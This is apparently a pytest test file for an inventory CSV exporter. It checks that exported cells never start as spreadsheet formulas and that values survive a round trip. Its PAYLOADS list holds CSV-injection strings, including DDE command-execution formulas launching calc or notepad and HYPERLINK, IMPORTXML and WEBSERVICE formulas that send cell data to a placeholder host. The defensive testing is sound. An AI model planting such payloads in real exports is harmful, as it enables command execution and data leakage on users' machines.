import csv
import io

import pytest

from inventory.exchange import csv_out, reading
from inventory.exchange.cell import Cells

PAYLOADS = (
    "=2+2", "=cmd|' /C calc'!A0", "+2+2", "-2+3", "@SUM(1)", "=HYPERLINK(\"http://x?\"&A1,\"click\")", "=IMPORTXML(\"http://x\",\"//a\")",
    "\t=2+2", "\r=2+2", "=1\n=2", "-1+1|cmd", "+cmd|' /C notepad'!A1", "@x", "=DDE(\"cmd\",\"/C calc\",\"x\")", "=A1", "=\"x\"", "-",
    "+", "=", "@", "=-2+3", "=WEBSERVICE(\"http://x\")", "-5%", "-5,00", "+49 30 1234", "=rundll32|'URL.dll,OpenURL calc'!A", "==1",
    "=#REF!", "-@SUM(1)", "=REPT(\"=\",9)",
)  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_is_written_as_a_formula_and_every_one_comes_back(payload: str) -> None:
    data = csv_out.written([["name", "note"], ["a", payload], [payload, 'quote " and, comma']])
    cells = [cell for row in csv.reader(io.StringIO(data.decode(), newline="")) for cell in row]
    assert not any(cell.startswith(csv_out.STARTS) for cell in cells)
    rows = reading.table(data, required=("name",), optional=("note",)).rows
    assert Cells(rows[0]).typed("note") == payload.strip()


@pytest.mark.parametrize("number", ["-5", "-5.00", "0.72", "46000"])
def test_a_number_stays_a_number(number: str) -> None:
    assert csv_out.cell(number) == number
